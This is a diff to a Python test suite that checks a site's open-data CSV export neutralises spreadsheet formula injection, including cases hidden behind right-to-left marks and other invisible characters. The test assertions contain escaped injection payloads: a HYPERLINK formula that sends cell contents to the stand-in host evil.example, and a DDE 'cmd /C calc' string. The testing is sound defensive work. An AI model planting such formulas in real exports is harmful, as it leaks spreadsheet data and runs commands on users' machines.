@@ -91,7 +91,7 @@ FIELD_CASES = {
                   "title-csv-formula.yaml", "csv-formula-disguised.yaml",
                   "title-too-long.yaml", "title-jinja-markdown.yaml", "title-zero-width.yaml"],
         "quote": ["quote-inside-quote.yaml", "quote-spans-markup.yaml", "non-bmp-every-field.yaml", "quote-markdown-link.yaml", "quote-jinja.yaml", "quote-div-breakout.yaml",
-                  "bidi-isolate-in-quote.yaml", "quote-vs-zero-width.yaml"],
+                  "bidi-isolate-in-quote.yaml", "quote-vs-zero-width.yaml", "rtl-marks-in-quote.yaml"],
         "article": ["jinja-in-article-id.yaml", "quote-in-front-matter-article.yaml"],
         "claimant": ["markup-in-claimant.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "claimant-attribute-breakout.yaml", "claimant-lookalike.yaml",
                      "claimant-cyrillic-a.yaml", "claimant-named-index.yaml",
@@ -148,7 +148,7 @@ FIELD_CASES = {
                          "unknown-field-onload.md", "crlf-line-endings.md"],
         "body": ["line-separators-body.md", "script-in-body.md", "non-bmp-every-field.md", "noncharacter-body.md", "html-comment-body.md", "markdown-in-body.md", "jinja-in-body.md",
                  "long-line-body.md", "huge-body.md", "binary-body.md", "not-utf8-body.md", "bom-article.md",
-                 "empty-body.md", "rtl-override-body.md", "zero-width-body.md", "control-chars-body.md",
+                 "empty-body.md", "rtl-override-body.md", "rtl-marks-body.md", "zero-width-body.md", "control-chars-body.md",
                  "div-breakout-body.md", "quote-spans-markup.md"],
     },
 }
@@ -444,10 +444,12 @@ def test_open_data_csv_cells_cannot_run_as_formulas(accepted: AcceptedSite) -> N
     assert (disguised["title"], disguised["claimant"], disguised["summary"][:3]) == (
         "'＝HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Output rose by 40% last year\")",
         "'\u200b=cmd|' /C calc'!A0", "'\ufeff\u2060")
+    # behind a right-to-left mark, which prose may carry
+    assert next(row for row in rows if row["id"] == "rtl-marks-in-quote")["summary"].startswith("'\u200f=HYPERLINK(")
 
 
 # what a spreadsheet skips before reading a formula: invisible characters a contributor may put first
-INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
+INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u200e", "\u200f", "\u061c"]
 
 
 def test_every_claimant_gets_a_page_of_their_own(accepted: AcceptedSite) -> None:
